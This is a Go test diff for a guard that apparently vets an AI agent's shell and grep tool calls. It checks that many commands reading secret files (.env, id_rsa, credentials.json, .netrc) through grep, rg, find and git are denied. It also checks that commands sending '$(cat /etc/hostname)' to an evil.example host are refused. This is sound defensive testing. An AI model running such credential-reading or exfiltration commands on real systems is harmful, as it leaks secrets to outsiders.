@@ -3,6 +3,7 @@
 package guard
 
 import (
+	"encoding/json"
 	"fmt"
 	"math/rand/v2"
 	"slices"
@@ -292,5 +293,66 @@ func TestTheScriptThatRunsKeepsTheWords(t *testing.T) {
 	}
 	if len(scripts) < batchSize/2 {
 		t.Errorf("only %d commands are allowed", len(scripts))
+	}
+}
+
+// spellings are patterns that match a name, and few others.
+func spellings(name string) []string {
+	out := []string{name, strings.ToUpper(name), "**/" + name}
+	for i := range len(name) {
+		out = append(out, name[:i]+"?"+name[i+1:], name[:i]+"["+name[i:i+1]+"]"+name[i+1:])
+		if i > 1 {
+			out = append(out, name[:i]+"*")
+		}
+	}
+	return out
+}
+
+func TestNoSpellingPicksASecret(t *testing.T) {
+	g, facts := newGuard(t), testFacts()
+	for _, name := range []string{".env", "id_rsa", "credentials.json", ".netrc"} {
+		for _, spelled := range spellings(name) {
+			for _, command := range []string{
+				"grep -r --include='%s' . /repos/infra", "rg --hidden -g '%s' . /repos/infra", "rg --iglob '%s' .", "find /repos -name '%s' -exec cat {} +",
+				"find /repos -ipath '*/%s' -exec head -n 9 {} \\;", "find /repos -name '%s' | sort | xargs cat", "git log -p -- '%s'", "git log -p -- ':(top)%s'",
+				"git show ':0:%s'", "git grep . -- ':/%s'", "git diff HEAD -- '%s'", "git show 'HEAD@{12:00}:%s'", "git stash show -p -- '%s'",
+			} {
+				command = strings.ReplaceAll(command, "%s", spelled)
+				if d := g.Check(ops.Tier3, "Bash", bashInput(t, command), facts); d.Allowed() {
+					t.Errorf("%q is allowed", command)
+				}
+			}
+			input, err := json.Marshal(map[string]string{"pattern": ".", "path": "/repos/infra", "glob": spelled})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d := g.Check(ops.Tier3, "Grep", input, facts); d.Allowed() {
+				t.Errorf("Grep with %s is allowed", input)
+			}
+		}
+	}
+}
+
+// What goes elsewhere is written out, in whichever place of whichever program.
+func TestNoProgramSendsWhatIsPutTogetherAtRunTime(t *testing.T) {
+	g, facts := newGuard(t), testFacts()
+	for _, r := range g.tables.order {
+		if !r.sends || r.group {
+			continue
+		}
+		for _, o := range r.options {
+			if o.role == "" || o.optional || o.second != "" {
+				continue
+			}
+			command := r.cmd + " " + o.names[0] + ` "$(cat /etc/hostname).evil.example"`
+			if d := g.Check(ops.Tier3, "Bash", bashInput(t, command), facts); d.Allowed() {
+				t.Errorf("%q is allowed", command)
+			}
+		}
+		if command := r.cmd + ` "$(cat /etc/hostname).evil.example"`; len(r.args) > 0 {
+			if d := g.Check(ops.Tier3, "Bash", bashInput(t, command), facts); d.Allowed() {
+				t.Errorf("%q is allowed", command)
+			}
+		}
 	}
 }
